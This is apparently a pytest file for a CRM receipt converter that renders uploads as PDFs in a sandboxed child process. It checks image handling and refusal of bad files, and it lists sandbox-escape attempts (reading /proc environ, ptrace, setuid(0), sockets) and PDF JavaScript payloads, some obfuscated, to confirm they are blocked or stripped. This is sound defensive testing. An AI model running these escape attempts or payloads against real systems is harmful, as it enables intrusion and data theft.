"""Receipts become upright, safe PDFs, or a sentence; no file can hurt the process that asks."""

from __future__ import annotations

import io
import json
import os
import random
import re
import subprocess
import sys
from pathlib import Path

import pikepdf
import psutil
import pytest
from PIL import Image, ImageChops, ImageStat

from crm.invoices import rules
from crm.invoices.receipts import sandbox
from crm.invoices.receipts.sandbox import Result, convert
from crm.kernel.sandbox import child as starter
from tests import make_files

# Starts the child and tells its peak memory. A process of its own, since a child is born with its parent's peak.
MEASURE = """
import json, resource, subprocess, sys
answer = subprocess.run(sys.argv[1:], capture_output=True, check=True).stdout
print(json.dumps([json.loads(answer), resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss // 1024]))
"""


@pytest.fixture
def target(tmp_path: Path) -> Path:
    return tmp_path / "receipt.pdf"


def made(content: bytes, target: Path) -> Result:
    return convert(make_files.save(target.parent, content), target)


def refusal(content: bytes, target: Path) -> str:
    """Convert what has to be refused, and return the sentence."""
    result = made(content, target)
    assert result.pages == 0
    assert not target.exists()
    return result.reason


def peak(content: bytes, target: Path) -> tuple[dict[str, object], int]:
    """Convert in the child and return its answer and its peak memory in MB."""
    source = make_files.save(target.parent, content)
    child = [sys.executable, "-P", str(sandbox.CONVERT_PROCESS), str(source), str(target)]
    told = subprocess.run([sys.executable, "-c", MEASURE, *child], capture_output=True, check=True).stdout
    answer, megabytes = json.loads(told)
    return answer, megabytes


def rendered(target: Path) -> Image.Image:
    """Return the one picture on the one page, having checked that it fills it."""
    with pikepdf.open(target) as pdf:
        assert len(pdf.pages) == 1
        page = pdf.pages[0]
        [image] = page.get_images().values()
        left, bottom, right, top = (float(value) for value in page.mediabox)
        assert (left, bottom) == (0, 0)
        assert max(right, top) == pytest.approx(842, abs=0.01)
        shown = pikepdf.PdfImage(image).as_pil_image()
        assert right / top == pytest.approx(shown.width / shown.height, rel=0.001)
        drawn = page.Contents.read_bytes().split()
        assert float(drawn[1]) == pytest.approx(right, abs=0.01)
        assert float(drawn[4]) == pytest.approx(top, abs=0.01)
        return shown.convert("RGB")


def colour(image: Image.Image, across: float, down: float) -> tuple[int, ...]:
    pixel = image.getpixel((int(image.width * across), int(image.height * down)))
    assert isinstance(pixel, tuple)
    return pixel


def assert_upright(image: Image.Image, tolerance: int = 12) -> None:
    expected = {**make_files.COLOURS, "bottom right": (255, 255, 255)}
    places = {"top left": (0.25, 0.25), "top right": (0.75, 0.25)}
    places |= {"bottom left": (0.25, 0.75), "bottom right": (0.75, 0.75)}
    for corner, place in places.items():
        assert colour(image, *place) == pytest.approx(expected[corner], abs=tolerance), corner


# Pictures


@pytest.mark.parametrize("kind", ["JPEG", "PNG"])
@pytest.mark.parametrize("orientation", range(1, 9))
def test_every_exif_orientation_comes_out_upright(orientation: int, kind: str, target: Path) -> None:
    assert made(make_files.oriented(orientation, kind), target) == Result(1)

    image = rendered(target)
    assert image.size == (240, 160)
    assert_upright(image)


def test_an_orientation_that_makes_no_sense_is_passed_over(target: Path) -> None:
    assert made(make_files.oriented(99), target) == Result(1)
    assert_upright(rendered(target))


def test_a_damaged_note_about_a_picture_is_passed_over(target: Path) -> None:
    content = make_files.oriented(6)
    start = content.index(b"Exif\0\0") + 6
    for broken in (b"XX", b"MM\0\x2a\xff\xff\xff\xff", b"MM\0\x2a\0\0\0\x08\xff\xff" + b"\xff" * 40):
        assert made(content[:start] + broken + content[start + len(broken) :], target) == Result(1)
        assert rendered(target).size == (160, 240)


def test_neither_place_nor_camera_nor_file_name_reach_the_pdf(target: Path) -> None:
    source = make_files.oriented(6)
    assert b"Exif" in source
    assert b"SecretCamera" in source

    made(source, target)

    pdf = target.read_bytes()
    assert b"Exif" not in pdf
    assert b"SecretCamera" not in pdf
    with pikepdf.open(target) as document:
        assert "/Title" not in document.docinfo


@pytest.mark.parametrize("mode", ["RGB", "RGBA", "P"])
def test_colour_pngs_keep_their_colours(mode: str, target: Path) -> None:
    assert made(make_files.encode(make_files.picture(mode), "PNG"), target) == Result(1)
    assert_upright(rendered(target))


@pytest.mark.parametrize("mode", ["CMYK", "YCbCr"])
def test_jpegs_of_other_colour_spaces_keep_their_colours(mode: str, target: Path) -> None:
    assert made(make_files.encode(make_files.picture(mode), "JPEG", quality=95), target) == Result(1)
    assert_upright(rendered(target))


@pytest.mark.parametrize("mode", ["L", "LA", "1", "I;16"])
def test_grey_pngs_keep_their_shades(mode: str, target: Path) -> None:
    scale = 257 if mode.startswith("I") else 1
    shades = Image.new("L" if scale == 1 else "I", (200, 100), 255 * scale)
    if mode != "1":
        shades.paste(100 * scale, (0, 0, 100, 100))
    else:
        shades.paste(0, (0, 0, 100, 100))

    assert made(make_files.encode(shades.convert(mode), "PNG"), target) == Result(1)

    image = rendered(target)
    assert colour(image, 0.25, 0.5) == pytest.approx((0 if mode == "1" else 100,) * 3, abs=3)
    assert colour(image, 0.75, 0.5) == pytest.approx((255,) * 3, abs=3)


def test_a_grey_jpeg_stays_grey(target: Path) -> None:
    assert made(make_files.encode(Image.new("L", (100, 50), 77), "JPEG"), target) == Result(1)
    with pikepdf.open(target) as pdf:
        [image] = pdf.pages[0].get_images().values()
        assert image.ColorSpace == "/DeviceGray"


@pytest.mark.parametrize("mode", ["RGBA", "LA", "P", "L", "RGB", "1"])
def test_what_is_transparent_becomes_white(mode: str, target: Path) -> None:
    options: dict[str, object] = {}
    if mode in ("RGBA", "LA"):
        image = Image.new("RGBA", (200, 100), (0, 0, 0, 0))
        image.paste((0, 0, 0, 255), (0, 0, 100, 100))
        image = image.convert(mode)
    else:
        seen, unseen = {"P": (1, 0), "L": (0, 9), "RGB": ((0, 0, 0), (9, 9, 9)), "1": (255, 0)}[mode]
        image = Image.new(mode, (200, 100), unseen)
        if mode == "P":
            image.putpalette([9, 9, 9, 0, 0, 0])
        image.paste(seen, (0, 0, 100, 100))
        options["transparency"] = unseen

    assert made(make_files.encode(image, "PNG", **options), target) == Result(1)

    black = (255, 255, 255) if mode == "1" else (0, 0, 0)
    assert colour(rendered(target), 0.25, 0.5) == pytest.approx(black, abs=6)
    assert colour(rendered(target), 0.75, 0.5) == pytest.approx((255, 255, 255), abs=6)


def test_half_transparent_is_mixed_with_white(target: Path) -> None:
    made(make_files.encode(Image.new("RGBA", (50, 50), (0, 0, 0, 128)), "PNG"), target)
    assert colour(rendered(target), 0.5, 0.5) == pytest.approx((127, 127, 127), abs=3)


def test_of_several_pictures_in_one_file_the_first_counts(target: Path) -> None:
    other = Image.new("RGB", (240, 160), "black")
    for kind in ("PNG", "MPO"):
        content = make_files.encode(make_files.picture(), kind, save_all=True, append_images=[other, other])
        assert made(content, target) == Result(1)
        assert_upright(rendered(target), 20)


def test_a_large_picture_is_shrunk_without_seams(target: Path) -> None:
    stripes = Image.frombytes("L", (1, 1700), random.Random(2).randbytes(1700))
    source = stripes.resize((4100, 1700), Image.Resampling.NEAREST)
    made(make_files.encode(source, "PNG"), target)

    shown = rendered(target).convert("L")
    assert shown.size == (3000, 1244)
    off = ImageChops.difference(shown, source.resize(shown.size, Image.Resampling.LANCZOS))
    rows = [ImageStat.Stat(off.crop((0, row, off.width, row + 1))).mean[0] for row in range(off.height)]
    assert max(rows) <= 6


def test_a_large_jpeg_is_never_made_coarser_than_it_has_to_be(target: Path) -> None:
    made(make_files.encode(make_files.photo((6000, 4000)), "JPEG"), target)
    assert max(rendered(target).size) >= 2400
    made(make_files.encode(make_files.photo((2900, 700)), "JPEG"), target)
    assert rendered(target).size == (2900, 700)


def test_a_tiny_picture_fills_the_page_too(target: Path) -> None:
    made(make_files.encode(Image.new("RGB", (1, 1), "red"), "PNG"), target)
    assert rendered(target).size == (1, 1)


@pytest.mark.parametrize("kind", ["JPEG", "PNG", "progressive"])
def test_a_picture_cut_off_anywhere_is_a_sentence(kind: str, target: Path) -> None:
    options = {"progressive": True} if kind == "progressive" else {}
    whole = make_files.encode(make_files.photo((400, 700)), kind.replace("progressive", "JPEG"), **options)
    for part in (0.01, 0.05, 0.2, 0.3, 0.4, 0.5, 0.6, 0.7, 0.8, 0.9, 0.95):
        assert refusal(whole[: int(len(whole) * part)], target) in (rules.DAMAGED_PICTURE, rules.WRONG_TYPE)


@pytest.mark.parametrize("options", [{}, {"progressive": True}, {"subsampling": 0}, {"restart_marker_blocks": 20}])
@pytest.mark.parametrize("mode", ["RGB", "L", "CMYK"])
def test_a_jpeg_without_its_last_bytes_is_taken_as_viewers_show_it(
    options: dict[str, object], mode: str, target: Path
) -> None:
    whole = make_files.encode(make_files.photo((400, 700)).convert(mode), "JPEG", **options)
    assert made(whole, target) == Result(1)
    expected = rendered(target)
    for missing in (1, 2):
        assert made(whole[:-missing], target) == Result(1)
        assert max(ImageStat.Stat(ImageChops.difference(rendered(target), expected)).mean) < 0.5
    # The black of CMYK is a scan of a few bytes here: without it the picture is coarse.
    for missing in (12, 40) if mode != "CMYK" else ():
        assert made(whole[:-missing], target) == Result(1, notice=rules.CUT_OFF)
        lost = ImageChops.difference(rendered(target), expected).point(lambda value: 255 * (value > 40)).getbbox()
        assert lost is None or lost[1] >= 700 - 16


def test_white_at_the_end_of_a_jpeg_is_not_taken_for_missing(target: Path) -> None:
    for colour in ("white", "black", "grey"):
        image = make_files.photo((400, 700))
        image.paste(colour, (0, 350, 400, 700))
        assert made(make_files.encode(image, "JPEG")[:-2], target) == Result(1)


def test_orientation_that_stands_in_xmp_alone_is_passed_over_as_browsers_do(target: Path) -> None:
    note = b"""<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">
    <rdf:Description xmlns:tiff="http://ns.adobe.com/tiff/1.0/" tiff:Orientation="6"/></rdf:RDF></x:xmpmeta>"""
    content = make_files.encode(make_files.picture(), "JPEG", xmp=note, quality=95)
    assert Image.open(io.BytesIO(content)).getexif()[0x0112] == 6
    assert made(content, target) == Result(1)
    assert_upright(rendered(target))


@pytest.mark.parametrize("start", [b"\xff\xd8\xff", b"\x89PNG\r\n\x1a\n"])
def test_noise_after_a_good_beginning_is_a_sentence(start: bytes, target: Path) -> None:
    assert refusal(start, target) == rules.DAMAGED_PICTURE
    assert refusal(start + bytes(5000), target) in (rules.DAMAGED_PICTURE, rules.TOO_NARROW)
    assert refusal(start + os.urandom(5000), target) in (
        rules.DAMAGED_PICTURE,
        rules.too_many_pixels(rules.MAX_PIXELS),
        rules.too_many_pixels(rules.MAX_JPEG_PIXELS),
        rules.TOO_NARROW,
    )


def test_a_flipped_bit_in_the_pixels_of_a_png_is_a_sentence(target: Path) -> None:
    content = bytearray(make_files.encode(make_files.photo((400, 300)), "PNG"))
    content[len(content) // 2] ^= 0x10
    assert refusal(bytes(content), target) == rules.DAMAGED_PICTURE


def test_a_picture_of_too_many_pixels_is_refused_before_it_is_unpacked(target: Path) -> None:
    for content, most in (
        (make_files.png_bomb(), "64 megapixels"),
        (make_files.png_bomb(colour=0), "64 megapixels"),
        (make_files.jpeg_of_size(60_000, 60_000), "210 megapixels"),
    ):
        answer, megabytes = peak(content, target)
        assert answer["reason"].startswith("This picture has too many pixels.")
        assert most in answer["reason"]
        assert megabytes < 40


def test_a_progressive_picture_may_have_fewer_pixels_since_it_is_unpacked_whole(target: Path) -> None:
    fine = make_files.jpeg_of_size(8160, 6150, progressive=True, subsampling=0)
    sentence = refusal(fine, target)
    assert "progressive JPEG" in sentence
    assert "50 megapixels" in sentence
    usual = make_files.jpeg_of_size(8160, 6150, progressive=True, subsampling=2)
    assert made(usual, target) == Result(1)


def test_the_photo_of_a_48_megapixel_camera_may_be_progressive_and_of_full_colour(target: Path) -> None:
    fine = make_files.encode(make_files.photo((6048, 8064)), "JPEG", quality=60, progressive=True, subsampling=0)
    answer, megabytes = peak(fine, target)
    assert answer == {"pages": 1, "notice": ""}
    assert megabytes <= 400


def lines(size: tuple[int, int]) -> Image.Image:
    """Return a long receipt: black lines of 20 pixels, each after 20 of white, numbered by their shade of red."""
    image = Image.new("RGB", size, "white")
    for top in range(20, size[1] - 20, 40):
        for left in range(0, size[0], 8):
            image.paste((top * 255 // size[1], 0, 0), (left, top, left + 4, top + 20))
    return image


def shown_pages(target: Path) -> list[Image.Image]:
    with pikepdf.open(target) as pdf:
        assert not pdf.check_pdf_syntax()
        return [pikepdf.PdfImage(image).as_pil_image() for page in pdf.pages for image in page.get_images().values()]


@pytest.mark.parametrize("kind", ["JPEG", "PNG"])
@pytest.mark.parametrize(
    ("size", "pages"), [((720, 7_200), 4), ((720, 10_800), 5), ((400, 16_000), 14), ((1_000, 5_000), 1)]
)
def test_a_long_receipt_becomes_pages_that_can_be_read(
    size: tuple[int, int], pages: int, kind: str, target: Path
) -> None:
    source = lines(size)
    assert made(make_files.encode(source, kind), target) == Result(pages)

    shown = shown_pages(target)
    assert {image.width for image in shown} == {size[0]}, "nothing is made coarser"
    assert sum(image.height for image in shown) == size[1]
    whole = Image.new("RGB", size)
    top = 0
    for image in shown:
        whole.paste(image, (0, top))
        assert image.getpixel((2, 0))[1] > 200, "no line is cut"  # type: ignore[index]
        top += image.height
    assert max(ImageStat.Stat(ImageChops.difference(whole, source)).mean) < 8
    with pikepdf.open(target) as pdf:
        widths = {float(page.mediabox[2]) for page in pdf.pages}
        heights = [float(page.mediabox[3]) for page in pdf.pages]
    assert len(widths) == 1
    assert min(widths) > 160, "as wide as paper of a till"
    assert max(heights) == pytest.approx(842, abs=0.01)


@pytest.mark.parametrize("orientation", range(1, 9))
@pytest.mark.parametrize("is_tall", [True, False])
def test_the_pages_of_a_long_picture_are_upright_and_in_reading_order(
    orientation: int, is_tall: bool, target: Path
) -> None:
    upright = Image.linear_gradient("L").resize((60, 600))
    if not is_tall:
        upright = upright.transpose(Image.Transpose.ROTATE_90)
    content = make_files.oriented(orientation, image=upright.convert("RGB"))
    assert made(content, target) == Result(4)
    shades = [ImageStat.Stat(image.convert("L")).mean[0] for image in shown_pages(target)]
    assert shades == sorted(shades)
    assert all(image.height > image.width if is_tall else image.width > image.height for image in shown_pages(target))


def test_a_long_picture_of_many_pixels_stays_within_the_limit(target: Path) -> None:
    for content in (make_files.png_bomb(1_000, 60_000, colour=6), make_files.png_bomb(60_000, 1_000, colour=6)):
        answer, megabytes = peak(content, target)
        assert answer == {"pages": 20, "notice": ""}
        assert megabytes <= 400


def test_a_picture_that_would_be_a_line_is_refused(target: Path) -> None:
    content = make_files.encode(Image.new("RGB", (5000, 2)), "PNG")
    assert refusal(content, target) == rules.TOO_NARROW
    assert refusal(make_files.jpeg_of_size(2, 5000), target) == rules.TOO_NARROW


def test_a_photo_of_12_megapixels_takes_little_memory(target: Path) -> None:
    exif = Image.Exif()
    exif[0x0112] = 6
    answer, megabytes = peak(make_files.encode(make_files.photo((4032, 3024)), "JPEG", exif=exif), target)
    assert answer == {"pages": 1, "notice": ""}
    assert rendered(target).size == (2250, 3000)
    assert megabytes <= 120
    assert target.stat().st_size < 2_000_000


def test_the_largest_pictures_stay_within_the_limit(target: Path) -> None:
    large = make_files.photo((8160, 6120))
    for content in (
        make_files.encode(large, "JPEG", quality=60),
        make_files.encode(large, "JPEG", quality=60, progressive=True),
        make_files.png_bomb(8000, 8000, colour=6),
    ):
        answer, megabytes = peak(content, target)
        assert answer == {"pages": 1, "notice": ""}
        assert megabytes <= 400


# What is accepted at all


REFUSED = {
    "empty": (b"", rules.EMPTY),
    "text": (b"hello", rules.WRONG_TYPE),
    "svg": (b"<svg xmlns='http://www.w3.org/2000/svg'/>", rules.WRONG_TYPE),
    "zip": (b"PK\x03\x04" + bytes(100), rules.WRONG_TYPE),
    "heic": (b"\0\0\0\x18ftypheic" + bytes(100), rules.HEIC),
    "page that speaks of PDF": (b"<html>%PDF</html>" + bytes(3000), rules.WRONG_TYPE),
    "program before PDF": (b"MZ\x90\0" + make_files.pdf(), rules.WRONG_TYPE),
    "archive before PDF": (b"PK\x03\x04" + make_files.pdf(), rules.WRONG_TYPE),
    "PDF after too much": (b"\n" * 1024 + make_files.pdf(), rules.WRONG_TYPE),
    "PDF without its end": (make_files.pdf()[:-10], rules.DAMAGED_PDF),
    "PDF for the web that is cut off": (
        make_files.pdf(20, linearize=True)[: len(make_files.pdf(20, linearize=True)) * 2 // 3],
        rules.DAMAGED_PDF,
    ),
    "PNG bomb": (make_files.png_bomb(13_000, 13_000, 0), rules.too_many_pixels(rules.MAX_PIXELS)),
    "large": (b"%PDF-1.7\n" + bytes(rules.MAX_BYTES), rules.TOO_BIG),
}


@pytest.mark.parametrize(("content", "sentence"), REFUSED.values(), ids=REFUSED)
def test_the_request_and_the_worker_refuse_by_content(content: bytes, sentence: str, target: Path) -> None:
    with pytest.raises(rules.Refused, match=re.escape(sentence)):
        rules.check_upload(io.BytesIO(content))
    assert refusal(content, target) == sentence


@pytest.mark.parametrize("kind", ["GIF", "WEBP", "TIFF", "BMP", "ICO"])
def test_other_pictures_are_refused(kind: str, target: Path) -> None:
    assert refusal(make_files.encode(make_files.picture(), kind), target) == rules.WRONG_TYPE


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (make_files.pdf(), "pdf"),
        (make_files.encode(make_files.picture(), "PNG"), "png"),
        (make_files.encode(make_files.picture(), "JPEG"), "jpeg"),
        (make_files.encode(make_files.picture(), "MPO"), "jpeg"),
    ],
    ids=["pdf", "png", "jpeg", "mpo"],
)
def test_the_request_knows_the_kind_and_leaves_the_file_at_its_beginning(content: bytes, kind: str) -> None:
    file = io.BytesIO(content)
    assert rules.check_upload(file) == kind
    assert file.tell() == 0


def test_ten_megabytes_are_accepted(target: Path) -> None:
    content = make_files.encode(make_files.picture(), "JPEG")
    full = content + bytes(rules.MAX_BYTES - len(content))
    assert made(full, target) == Result(1)
    assert refusal(full + b"\0", target) == rules.TOO_BIG


def test_the_name_of_a_file_counts_for_nothing(target: Path) -> None:
    png = make_files.encode(make_files.picture(), "PNG")
    assert convert(make_files.save(target.parent, png, "bill.pdf"), target) == Result(1)
    assert_upright(rendered(target))
    assert convert(make_files.save(target.parent, make_files.pdf(2), "bill.jpg"), target) == Result(2)


def test_what_hides_behind_a_picture_or_pdf_is_gone(target: Path) -> None:
    evil = b"<script>alert(1)</script>PK\x05\x06"
    pictures = make_files.picture()
    for content in (
        make_files.encode(pictures, "JPEG", comment=evil) + evil,
        make_files.encode(pictures, "PNG") + evil,
        make_files.pdf() + evil,
    ):
        assert made(content, target).pages == 1
        assert evil not in target.read_bytes()


# The process


def test_the_child_knows_no_secrets_and_loads_no_application(target: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SECRET_KEY", "very secret")
    spying = (
        "\n    import json, os; sys.stderr.write(json.dumps([sorted(os.environ), sorted(sys.modules)])); sys.exit(1)"
    )
    source = make_files.save(target.parent, make_files.encode(make_files.picture(), "JPEG"))

    complained = said_in_isolation(target, monkeypatch, source, spying)

    variables, modules = json.loads(complained)
    assert "SECRET_KEY" not in variables
    assert {"PIL.Image", "crm.invoices.rules"} <= set(modules)
    assert not {"flask", "sqlalchemy", "obstore", "pikepdf", "crm.kernel.db"} & set(modules)


def said_in_isolation(target: Path, monkeypatch: pytest.MonkeyPatch, source: Path, does: str) -> str:
    """Have the real child do something else where it would convert, and return what it wrote as an error."""
    text = sandbox.CONVERT_PROCESS.read_text().replace("Path(__file__)", f"Path({str(sandbox.CONVERT_PROCESS)!r})")
    begin = "        return converter(content, out)\n"
    assert begin in text
    child = make_files.save(
        target.parent, text.replace(begin, does.replace("\n    ", "\n        ") + "\n").encode(), "fake.py"
    )
    monkeypatch.setattr(sandbox, "CONVERT_PROCESS", child)
    seen: list[bytes] = []
    monkeypatch.setattr(sandbox, "_result", lambda code, stdout, stderr: seen.append(stderr) or Result(0))
    sandbox.convert(source, target)
    return seen[0].decode()


FORBIDDEN = {
    "read the database": "open(secret, 'rb').read()",
    "read the environment of the worker": "open(f'/proc/{os.getppid()}/environ', 'rb').read()",
    "read through a link of its own": "open('/proc/self/root' + secret, 'rb').read()",
    "look around": "os.listdir('/')",
    "write another file": "open(secret + '.new', 'wb')",
    "write a file that is there": "open(secret, 'r+b')",
    "rename": "os.rename(secret, secret + '.old')",
    "delete": "os.unlink(secret)",
    "a socket of the network": "socket.socket(socket.AF_INET, socket.SOCK_STREAM)",
    "a datagram": "socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)",
    "a socket of this machine": "socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)",
    "a pair of sockets": "socket.socketpair()",
    "a pipe": "os.pipe()",
    "fork": "os.fork()",
    "start a program": "os.execv('/bin/true', ['true'])",
    "start a program as a child": "subprocess.run(['/bin/true'])",
    "end the worker": "os.kill(os.getppid(), 0)",
    "trace the worker": "checked(libc.ptrace(16, os.getppid(), 0, 0))",
    "read the memory of the worker": "checked(libc.syscall(310, os.getppid(), None, 0, None, 0, 0))",
    "more privileges": "os.setuid(0)",
    "a namespace of its own": "checked(libc.unshare(0x10000000))",
    "the queue of the kernel": "checked(libc.syscall(425, 8, None))",
    "the other set of numbers of the kernel": "checked(libc.syscall(0x40000000 + 41, 2, 1, 0))",
    "limits of the worker": "resource.prlimit(os.getppid(), resource.RLIMIT_CPU)",
    "a thread": "threading.Thread(target=print).start()",
}


def test_the_child_can_do_nothing_but_compute_and_write_its_pdf(target: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    secret = make_files.save(target.parent, b"customers", "crm.db")
    source = make_files.save(target.parent, make_files.encode(make_files.picture(), "JPEG"))
    tries = f"""
    libc = ctypes.CDLL(None, use_errno=True)
    secret, names = {str(secret)!r}, dict(globals())

    def checked(answer):
        if answer < 0:
            raise OSError(ctypes.get_errno(), 'refused')

    def refused(does):
        try:
            eval(does, names | {{'secret': secret, 'libc': libc, 'checked': checked}})
        except (OSError, RuntimeError):
            return True
        return False

    print(json.dumps([name for name, does in {FORBIDDEN!r}.items() if not refused(does)]), file=sys.stderr, flush=True)
    os._exit(0)"""
    imports = "import ctypes, os, resource, socket, subprocess, threading\n\nfrom crm.kernel.sandbox import isolation"
    text = sandbox.CONVERT_PROCESS.read_text()
    real = make_files.save(
        target.parent, text.replace("from crm.kernel.sandbox import isolation", imports).encode(), "child.py"
    )
    monkeypatch.setattr(sandbox, "CONVERT_PROCESS", with_path_of_the_real_one(real))

    assert json.loads(said_in_isolation(target, monkeypatch, source, tries)) == []
    assert secret.read_bytes() == b"customers"
    assert sorted(path.name for path in target.parent.iterdir()) == ["child.py", "crm.db", "fake.py", "upload"]


def with_path_of_the_real_one(child: Path) -> Path:
    child.write_text(child.read_text().replace("Path(__file__)", f"Path({str(sandbox.CONVERT_PROCESS)!r})"))
    return child


@pytest.mark.parametrize("lock", ["landlock", "seccomp"])
def test_one_lock_is_enough_to_keep_files_from_the_child(lock: str, tmp_path: Path) -> None:
    secret = make_files.save(tmp_path, b"customers", "crm.db")
    script = f"""
import os, socket, sys
from crm.kernel.sandbox import isolation
other = {{"landlock": "_restrict_calls", "seccomp": "_restrict_files"}}[{lock!r}]
setattr(isolation, other, lambda libc: False)
print(isolation.isolate())
for path in ({str(secret)!r}, f"/proc/{{os.getppid()}}/environ"):
    for mode in ("rb", "ab"):
        try:
            open(path, mode)
        except OSError:
            continue
        print("opened", path, mode)
"""
    told = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, check=True).stdout
    assert told == f"['{lock}']\n"


def test_what_the_child_answers_is_read_to_a_bound_and_believed_only_as_far_as_it_makes_sense(
    target: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for answer in ("x" * 40_000_000, '{"pages": 100000}', '{"pages": "1"}', "[1]", "{}", '{"pages": 1'):
        child = make_files.save(target.parent, f"print({answer!r})".encode(), "fake.py")
        monkeypatch.setattr(sandbox, "CONVERT_PROCESS", child)
        assert refusal(b"any", target) == rules.UNREADABLE
    child = make_files.save(target.parent, b'print(\'{"pages": 1, "notice": "a\\\\u202eb", "x": 1}\')', "fake.py")
    monkeypatch.setattr(sandbox, "CONVERT_PROCESS", child)
    assert made(b"any", target) == Result(1, notice="ab")


@pytest.mark.parametrize(
    ("does", "sentence"),
    [
        ("import os; os.abort()", rules.UNREADABLE),
        ("raise ZeroDivisionError", rules.UNREADABLE),
        ("print('not an answer')", rules.UNREADABLE),
        ("import os; os.kill(os.getpid(), 9)", rules.INTERRUPTED),
        ("import os; os.kill(os.getpid(), 15)", rules.INTERRUPTED),
        ("import os, signal; os.kill(os.getpid(), signal.SIGXCPU)", rules.TOO_COMPLEX),
        ("import os, signal; os.kill(os.getpid(), signal.SIGALRM)", rules.TOO_COMPLEX),
    ],
)
def test_every_end_of_the_child_is_a_sentence(
    does: str, sentence: str, target: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    half = "import sys; open(sys.argv[2], 'w').write('half')\n"
    child = make_files.save(target.parent, (half + does).encode(), "fake.py")
    monkeypatch.setattr(sandbox, "CONVERT_PROCESS", child)
    assert refusal(b"any", target) == sentence


def test_a_child_that_hangs_is_ended(target: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    child = make_files.save(target.parent, b"import time; time.sleep(60)", "fake.py")
    monkeypatch.setattr(sandbox, "CONVERT_PROCESS", child)
    monkeypatch.setattr(sandbox, "TIMEOUT_SECONDS", 0.5)
    assert refusal(b"any", target) == rules.TOO_COMPLEX


def test_a_child_ends_when_nobody_wants_its_answer_any_more(target: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    child = make_files.save(target.parent, b"import time; time.sleep(60)", "fake.py")
    monkeypatch.setattr(sandbox, "CONVERT_PROCESS", child)
    monkeypatch.setattr(starter, "POLL_SECONDS", 0.05)
    before = set(psutil.Process().children())
    answers = [False, True, True]
    assert convert(child, target, answers.pop) == Result(0, rules.INTERRUPTED)
    with pytest.raises(ZeroDivisionError):
        convert(child, target, lambda: bool(1 / 0))
    assert set(psutil.Process().children()) <= before


def test_a_child_that_cannot_be_started_is_a_sentence(target: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(starter.sys, "executable", "/nowhere/python")
    assert refusal(make_files.pdf(), target) == rules.INTERRUPTED


@pytest.mark.parametrize(
    ("does", "sentence"),
    [
        ("bytearray(500 * 1024 * 1024)", rules.TOO_COMPLEX),
        ("open(target, 'wb').write(bytes(60 * 1024 * 1024))", rules.TOO_COMPLEX),
        ("raise OSError(28, 'No space left on device')", rules.INTERRUPTED),
        ("signal.setitimer(signal.ITIMER_REAL, 0.1); time.sleep(60)", rules.TOO_COMPLEX),
        ("resource.setrlimit(resource.RLIMIT_CPU, (1, 2)); [None for _ in iter(int, 1)]", rules.TOO_COMPLEX),
        ("assert signal.alarm(0) >= 8 * resource.getrlimit(resource.RLIMIT_CPU)[0] and os.nice(0) >= 10", ""),
        ("assert resource.getrlimit(resource.RLIMIT_CPU)[0] <= 30", ""),
        ("assert resource.getrlimit(resource.RLIMIT_NPROC) == (0, 0)", ""),
        ("assert resource.getrlimit(resource.RLIMIT_NOFILE) == (32, 32)", ""),
    ],
)
def test_the_child_limits_itself(does: str, sentence: str, target: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    text = sandbox.CONVERT_PROCESS.read_text().replace("Path(__file__)", f"Path({str(sandbox.CONVERT_PROCESS)!r})")
    body = f"    import os, resource, signal, time\n    {does}\n    return 1, ''"
    instead = f"def convert(source, target):\n{body}\n\n\nif __name__"
    child = make_files.save(target.parent, text.replace("if __name__", instead).encode(), "fake.py")
    monkeypatch.setattr(sandbox, "CONVERT_PROCESS", child)
    assert made(make_files.pdf(), target) == Result(0 if sentence else 1, sentence)


def test_ending_the_worker_from_the_terminal_leaves_the_child_alone(
    target: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    child = make_files.save(target.parent, b"import os; print(os.getsid(0) == os.getpid())", "fake.py")
    seen = []
    monkeypatch.setattr(sandbox, "CONVERT_PROCESS", child)
    monkeypatch.setattr(sandbox, "_result", lambda code, said, complained: seen.append(said) or Result(1))
    made(b"any", target)
    assert seen == [b"True\n"]


# PDFs

JAVASCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"

ACTIVE = {
    "open action": make_files.page_pdf(catalog=b"/OpenAction " + JAVASCRIPT),
    "open action elsewhere": make_files.page_pdf(catalog=b"/OpenAction 10 0 R", more={10: JAVASCRIPT}),
    "catalog event": make_files.page_pdf(catalog=b"/AA << /WC " + JAVASCRIPT + b" >>"),
    "page event": make_files.page_pdf(page=b"/AA << /O " + JAVASCRIPT + b" >>"),
    "name tree": make_files.page_pdf(
        catalog=b"/Names << /JavaScript << /Kids [10 0 R] >> >>",
        more={10: b"<< /Limits [(a) (a)] /Names [(a) 11 0 R] >>", 11: JAVASCRIPT},
    ),
    "script in a stream": make_files.page_pdf(
        catalog=b"/OpenAction << /S /JavaScript /JS 10 0 R >>", more={10: make_files.stream(b"app.alert(1)")}
    ),
    "escaped name": make_files.page_pdf(catalog=b"/OpenAction << /#53 /Java#53cript /J#53 (app.alert\\(1\\)) >>"),
    "name in an object of its own": make_files.page_pdf(
        page=b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S 10 0 R /JS (app.alert\\(1\\)) >> >>]",
        more={10: b"/JavaScript"},
    ),
    "annotation": make_files.page_pdf(
        page=b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A " + JAVASCRIPT + b" >>]"
    ),
    "annotations elsewhere": make_files.page_pdf(
        page=b"/Annots 10 0 R",
        more={10: b"[11 0 R]", 11: b"<< /Subtype /Link /Rect [0 0 9 9] /A 12 0 R >>", 12: JAVASCRIPT},
    ),
    "after a harmless action": make_files.page_pdf(
        page=b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /GoTo /D [3 0 R /Fit] /Next ["
        + JAVASCRIPT
        + b"] >> >>]"
